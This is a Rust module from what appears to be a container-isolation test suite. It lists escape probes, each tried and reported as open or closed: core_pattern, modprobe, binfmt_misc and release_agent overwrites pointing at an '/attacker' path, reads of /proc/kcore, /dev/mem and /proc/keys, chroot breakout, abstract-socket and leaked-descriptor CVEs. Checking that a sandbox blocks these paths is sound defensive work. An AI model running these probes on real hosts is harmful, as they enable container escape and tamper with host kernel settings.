//! Files that lead out of a container.

use super::Attack;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Error, Write};
use std::os::unix::fs::{MetadataExt, chroot};
use std::os::unix::net::UnixStream;
use std::path::Path;

/// Closed by masks and read-only mounts as well.
pub(crate) const ALL: &[Attack] = &[
    ("a parameter of its own network", || write("/proc/sys/net/ipv4/ip_forward", "1")),
    ("a group for itself", || make_group()),
    ("the kernel's keys", || read_something("/proc/keys")),
    ("the machine's interrupts", || read_something("/proc/interrupts")),
    ("the kernel's memory", || read_something("/proc/kcore")),
];

/// Closed to whoever is not the machine's root.
pub(crate) const PRIVILEGED: &[Attack] = &[
    ("core_pattern, CVE-2025-52881", || write("/proc/sys/kernel/core_pattern", "|/attacker")),
    ("modprobe", || write("/proc/sys/kernel/modprobe", "/attacker")),
    ("binfmt_misc", || write("/proc/sys/fs/binfmt_misc/register", ":x:E::x::/attacker:")),
    ("sysrq", || write("/proc/sysrq-trigger", "h")),
    ("uevent_helper", || write("/sys/kernel/uevent_helper", "/attacker")),
    ("overcommitting the machine's memory", || write("/proc/sys/vm/overcommit_memory", "1")),
    ("dropping the machine's caches", || write("/proc/sys/vm/drop_caches", "1")),
    ("release_agent, CVE-2022-0492", || write_group("release_agent", "/attacker")),
    ("release_agent of a cgroup mount of its own", mount_groups),
    ("leaving its group", || write_group("cgroup.procs", "0")),
    ("its own limits", || write_group("memory.limit_in_bytes", "-1")),
    ("being killed last", || write("/proc/self/oom_score_adj", "-1000")),
    ("the kernel's log", || read_something("/dev/kmsg")),
    ("memory", || read_something("/dev/mem")),
    ("new loop devices", || read_something("/dev/loop-control")),
    ("a machine's first process", || not_our_root("/proc/1/root")),
    ("a root above the root", chroot_and_up),
    ("sockets without a name", sockets_without_a_name),
    ("a directory that was left open, CVE-2024-21626", leaked_directory),
];

fn write(path: &str, text: &str) -> io::Result<i64> {
    OpenOptions::new().write(true).open(path)?.write_all(text.as_bytes())?;
    Ok(0)
}

fn read_something(path: &str) -> io::Result<i64> {
    let mut bytes = [0; 64];
    match io::Read::read(&mut File::open(path)?, &mut bytes)? {
        0 => Err(Error::other("empty")),
        read => Ok(read as i64),
    }
}

/// A file of its own cgroup, in whatever hierarchies there are.
fn write_group(file: &str, text: &str) -> io::Result<i64> {
    let mut outcome = Err(Error::other("no such file"));
    let hierarchies = fs::read_dir("/sys/fs/cgroup")?.flatten().map(|entry| entry.path());
    for directory in hierarchies.chain([Path::new("/sys/fs/cgroup").to_owned()]) {
        let path = directory.join(file);
        if path.exists() {
            outcome = write(&path.to_string_lossy(), text);
            if outcome.is_ok() {
                break;
            }
        }
    }
    outcome
}

/// Who may mount finds every hierarchy of version 1 from its own group down, and version 2.
fn mount_groups() -> io::Result<i64> {
    let controllers = fs::read_to_string("/proc/cgroups")?;
    let controllers = controllers.lines().skip(1).filter_map(|line| line.split_whitespace().next());
    let mounts = controllers.map(|name| ("cgroup", name)).chain([("cgroup2", ""), ("cgroup", "none,name=x")]);
    for (number, (kind, options)) in mounts.enumerate() {
        let directory = format!("/tmp/groups-{number}");
        fs::create_dir_all(&directory)?;
        let flags = nix::mount::MsFlags::empty();
        if nix::mount::mount(Some("x"), directory.as_str(), Some(kind), flags, Some(options)).is_ok() {
            for (file, text) in [("release_agent", "/attacker"), ("cgroup.procs", "0"), ("notify_on_release", "1")] {
                if write(&format!("{directory}/{file}"), text).is_ok() {
                    return Ok(number as i64);
                }
            }
        }
    }
    Err(Error::other("none can be changed"))
}

fn make_group() -> io::Result<i64> {
    let hierarchies = fs::read_dir("/sys/fs/cgroup")?.flatten().map(|entry| entry.path());
    for directory in hierarchies.chain([Path::new("/sys/fs/cgroup").to_owned()]).filter(|path| path.is_dir()) {
        if fs::create_dir(directory.join("attack")).is_ok() {
            return Ok(0);
        }
    }
    Err(Error::other("nowhere"))
}

fn not_our_root(path: &str) -> io::Result<i64> {
    if fs::metadata(path)?.ino() == fs::metadata("/")?.ino() {
        return Err(Error::other("it is our own"));
    }
    Ok(0)
}

/// The classic: a root below the working directory doesn't hold it.
fn chroot_and_up() -> io::Result<i64> {
    fs::create_dir_all("/tmp/below")?;
    let before = File::open("/")?;
    chroot("/tmp/below")?;
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    chroot(".")?;
    if fs::metadata("/")?.ino() == before.metadata()?.ino() {
        return Err(Error::other("up there is our own root"));
    }
    Ok(0)
}

/// CVE-2020-15257: sockets of the machine that have no place in a file system are reached by who shares its network.
fn sockets_without_a_name() -> io::Result<i64> {
    let sockets = fs::read_to_string("/proc/net/unix")?;
    let abstract_ones =
        sockets.lines().filter_map(|line| line.split_whitespace().nth(7)).filter(|name| name.starts_with('@'));
    if let Some(name) = abstract_ones.into_iter().next() {
        use std::os::linux::net::SocketAddrExt;
        let address = std::os::unix::net::SocketAddr::from_abstract_name(name.trim_start_matches('@'))?;
        UnixStream::connect_addr(&address)?;
        return Ok(0);
    }
    Err(Error::other("there are none"))
}

fn leaked_directory() -> io::Result<i64> {
    let own = fs::metadata("/")?.dev();
    for entry in fs::read_dir("/proc/self/fd")?.flatten() {
        if let Ok(data) = fs::metadata(entry.path())
            && data.is_dir()
            && data.dev() != own
            && !fs::read_link(entry.path())?.starts_with("/proc")
        {
            return Ok(0);
        }
    }
    Err(Error::other("there is none"))
}
